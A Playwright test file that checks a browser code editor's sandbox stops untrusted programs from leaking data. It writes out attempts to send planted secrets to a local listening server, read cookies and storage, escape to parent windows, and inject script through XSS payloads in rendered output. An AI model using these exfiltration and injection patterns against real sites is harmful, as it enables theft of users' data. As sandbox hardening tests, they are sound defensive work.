import { type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type Frame, type Page, expect } from "@playwright/test";
import { PHONE, test } from "./editor.js";

// What a program could do harm with, tried in a real browser: each attempt comes to nothing, and a server that listens hears nothing.

test.use(PHONE); // without Monaco, which has no part in it

let server: Server;
let elsewhere = "";
const heard: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response
      .setHeader("access-control-allow-origin", "*")
      .setHeader("cross-origin-resource-policy", "cross-origin")
      .end("got");
  });
  server.on("upgrade", (request, socket) => {
    heard.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`; // a TCP server has one
});
test.beforeEach(() => void (heard.length = 0));
test.afterAll(() => server.close());

/** Attempts of a program in TypeScript; HERE is the page's own address and ELSEWHERE one that answers. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  fetch: "fetch(ELSEWHERE)",
  "fetch of the page": "fetch(HERE)",
  "fetch in a worker": "inWorker(`fetch('${ELSEWHERE}').then(() => postMessage('got'), (e) => postMessage(e.name))`)",
  "fetch of the page in a worker":
    "inWorker(`fetch('${HERE}').then(() => postMessage('got'), (e) => postMessage(e.name))`)",
  XMLHttpRequest: "ask((x: any) => x.open('GET', ELSEWHERE))",
  "XMLHttpRequest of the page": "ask((x: any) => x.open('GET', HERE))",
  WebSocket: "opened(new WebSocket(ELSEWHERE.replace('http', 'ws')))",
  EventSource: "opened(new EventSource(ELSEWHERE))",
  importScripts: "importScripts(ELSEWHERE)",
  "import of an address": "import(ELSEWHERE)",
  "import of data": "import(String('data:text/javascript,export default 1'))",
  eval: "(0, eval)('1')",
  Function: "new Function('return 1')()",
  "worker of an address": "opened(new Worker(ELSEWHERE))",
  "cookies of the page": "any.document.cookie",
  cookieStore: "any.cookieStore.getAll()",
  localStorage: "any.localStorage.getItem('secret')",
  sessionStorage: "any.sessionStorage.getItem('secret')",
  indexedDB:
    "new Promise((resolve, reject) => { const r = indexedDB.open('secret'); r.onsuccess = resolve; r.onerror = () => reject(r.error); })",
  caches: "caches.open('secret')",
  "files of the origin": "navigator.storage.getDirectory()",
  "broadcast of the page": "new Promise((resolve) => { new BroadcastChannel('secret').onmessage = resolve; })",
  "locks of the page":
    "navigator.locks.query().then((all: any) => { if (all.held.length === 0) throw new RangeError('none'); })",
  parent: "any.parent.document",
  top: "any.top.document",
  opener: "any.opener.document",
  frames: "any.frames[0].document",
  "a window": "any.open(ELSEWHERE)",
  "the location": "(any.location = ELSEWHERE)",
  "the location's href": "(any.location.href = ELSEWHERE)",
  "a beacon": "any.navigator.sendBeacon(ELSEWHERE, 'secret')",
  clipboard: "any.navigator.clipboard.readText()",
};

const PROGRAM = `
const any = globalThis as any;
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const opened = (what: any) => new Promise((resolve, reject) => {
  what.onopen = what.onmessage = resolve;
  what.onerror = () => reject(new TypeError("refused"));
});
const ask = (open: (x: any) => void) => new Promise((resolve, reject) => {
  const x = new XMLHttpRequest();
  open(x);
  x.onload = resolve;
  x.onerror = () => reject(new TypeError("refused"));
  x.send();
});
const inWorker = (text: string) => new Promise((resolve, reject) => {
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  worker.onmessage = ({ data }) => (data === "got" ? resolve(data) : reject(new TypeError(data)));
});
const late = () => pause(1500).then(() => { throw new RangeError("silence"); });
async function attempt(name: string, act: () => unknown) {
  try {
    const got = await Promise.race([act(), late()]);
    console.log(name + ": got " + String(got));
  } catch (error) {
    console.log(name + ": nothing, " + (error as Error).name);
  }
}
`;

test("a program that asks, reads, opens or leads away gets nothing @plain", async ({
  page,
  editor,
  baseURL,
  complaints,
}) => {
  await plantSecrets(page, `${baseURL}/editor.html`);
  const here = JSON.stringify(`${baseURL}/index.html`);
  const attempts = Object.entries(ATTEMPTS).map(
    ([name, act]) => `await attempt(${JSON.stringify(name)}, () => ${act});`,
  );
  const constants = `const [ELSEWHERE, HERE] = [${JSON.stringify(elsewhere)}, ${here}];`;
  await editor.open([constants, PROGRAM, ...attempts, 'console.log("that was all");'].join("\n"));
  await page.evaluate(() => {
    const channel = new BroadcastChannel("secret");
    // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel, not a window
    setInterval(() => channel.postMessage("secret"), 100);
    void navigator.locks.request("secret", () => new Promise(() => {}));
  });
  await editor.runButton.click();
  await expect(editor.phase).toHaveText(/^(Finished|Failed)/, { timeout: 90_000 });
  const lines = (await editor.output.innerText()).split("\n").filter((line) => line !== "");
  expect(lines.map((line) => line.replace(/, \w+$/, ""))).toEqual([
    ...Object.keys(ATTEMPTS).map((name) => `${name}: nothing`),
    "that was all",
  ]);
  expect(heard).toEqual([]);
  expect(page.url()).toContain("/editor.html#code=");
  expect(page.context().pages()).toHaveLength(1);
  complaints.length = 0; // the browser reports what it refused
});

/** What there would be to steal in the page's origin. */
async function plantSecrets(page: Page, address: string): Promise<void> {
  await page.goto(address);
  await page.evaluate(async () => {
    document.cookie = "secret=1";
    localStorage.setItem("secret", "1");
    sessionStorage.setItem("secret", "1");
    await caches.open("secret");
    await new Promise((resolve) => (indexedDB.open("secret").onsuccess = resolve));
  });
}

/** The frame of the program that runs; another may be kept ready. */
const sandboxOf = (page: Page): Frame => {
  const frame = page.frames().find((frame) => frame.url().endsWith("/sandbox.html"));
  if (frame === undefined) throw new Error("There was to be a sandbox.");
  return frame;
};

test("even in the frame's own script there would be nothing to get @plain", async ({ page, editor, complaints }) => {
  await plantSecrets(page, "/editor.html");
  await editor.run("console.log(1);");
  const frame = sandboxOf(page);
  const got = await frame.evaluate(async (elsewhere) => {
    const attempts: Record<string, () => unknown> = {
      cookie: () => document.cookie,
      localStorage: () => localStorage.getItem("secret"),
      sessionStorage: () => sessionStorage.getItem("secret"),
      indexedDB: () => indexedDB.open("secret"),
      caches: () => caches.open("secret"),
      parent: () => parent.document,
      top: () => top?.document,
      leadTop: () => top && (top.location.href = elsewhere),
      window: () => window.open(elsewhere)?.document.body.id,
      fetch: () => fetch(elsewhere),
      image: () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          [image.onload, image.onerror] = [resolve, reject];
          image.src = elsewhere;
        }),
      script: () =>
        new Promise((resolve, reject) => {
          const script = document.createElement("script");
          [script.onload, script.onerror] = [resolve, reject];
          script.src = elsewhere;
          document.body.append(script);
        }),
      inline: () => {
        document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.harm = 1" }));
        return (globalThis as { harm?: number }).harm ?? Promise.reject(new Error("refused"));
      },
    };
    const stolen: string[] = [];
    for (const [name, act] of Object.entries(attempts)) {
      await (async () => act())().then(
        (value) => value !== undefined && stolen.push(name),
        () => {},
      );
    }
    document.body.innerHTML = `<form action="${elsewhere}/form"><button></button></form>`;
    document.forms[0].submit();
    return stolen;
  }, elsewhere);
  expect(got).toEqual([]);
  await frame.evaluate((elsewhere) => void (location.href = `${elsewhere}/away`), elsewhere).catch(() => {});
  await page.waitForTimeout(1000);
  expect(heard).toEqual([]);
  expect(page.url()).toContain("/editor.html");
  complaints.length = 0; // the browser reports what it refused
});

test("what a program says in the name of the sandbox is taken as text and numbers, or not at all", async ({
  page,
  editor,
}) => {
  const harm = `<img src=x onerror="globalThis.harm=1"><script>globalThis.harm=1</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="globalThis.harm=1"><script>globalThis.harm=1</script><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="a"/></foreignObject></svg>`;
  await editor.run(`
    const harm = ${JSON.stringify(harm)}, svg = ${JSON.stringify(svg)};
    const say = (...parts: unknown[]) => postMessage({ kind: "said", said: { level: "log", parts } });
    console.log("begin");
    console.log(svg);
    console.log(harm);
    say({ kind: "text", text: "a text of its own" });
    say({ kind: "figure", svg, title: harm, description: harm });
    say({ kind: "html", html: harm }, { kind: "text", text: "never shown" });
    say({ kind: "figure", svg: harm, title: "never shown", description: "" });
    say({ kind: "story", story: { story: "x", title: harm, arithmetic: "", steps: [{ title: harm, why: harm, latex: "\\\\href{javascript:harm=1}{x} \\\\htmlClass{a}{b} {", before: {}, after: {}, highlighted: [] }] } });
    postMessage("nonsense");
    postMessage({ kind: "broken", reason: "never shown" });
    postMessage({ kind: "report", report: { kind: "thrown" } });
    console.log("end");
  `);
  await expect(editor.output).toContainText("end");
  await expect(editor.output).toContainText("a text of its own");
  await expect(editor.output).toContainText(harm);
  await expect(editor.output).not.toContainText("never shown");
  await expect(editor.output.locator(".told-story")).toBeVisible();
  expect(await editor.output.locator("script, iframe, svg, foreignObject, a, img:not([src^='blob:'])").count()).toBe(0);
  expect(await page.evaluate(() => "harm" in globalThis)).toBe(false);
});

test("nobody but its own frame is heard by the page, and nobody but the page by the frame", async ({
  page,
  editor,
  complaints,
}) => {
  await editor.run("console.log('own');");
  await page.evaluate(async () => {
    const report = { kind: "said", said: { level: "log", parts: [{ kind: "text", text: "a stranger" }] } };
    postMessage({ kind: "report", report }, "*");
    const stranger = document.createElement("iframe");
    stranger.src = "sandbox.html"; // not in a sandbox: it has the page's origin, and must run nothing
    document.body.append(stranger);
    await new Promise((loaded) => stranger.addEventListener("load", loaded));
    const { contentWindow } = stranger;
    const text = "parent.postMessage(1, '*')";
    contentWindow?.postMessage(
      { kind: "run", program: { modules: [{ name: "p", texts: [text], imports: [] }], files: [] } },
      "*",
    );
    dispatchEvent(
      new MessageEvent("message", { data: { kind: "report", report }, source: contentWindow, origin: "null" }),
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
  });
  await expect(editor.output).toHaveText("own");
  const programs = page.workers().filter((worker) => worker.url().startsWith("blob:http"));
  for (const worker of programs) expect(await worker.evaluate(() => self.name)).not.toBe("linnet program");
  complaints.length = 0; // a frame without a sandbox may be told of
});
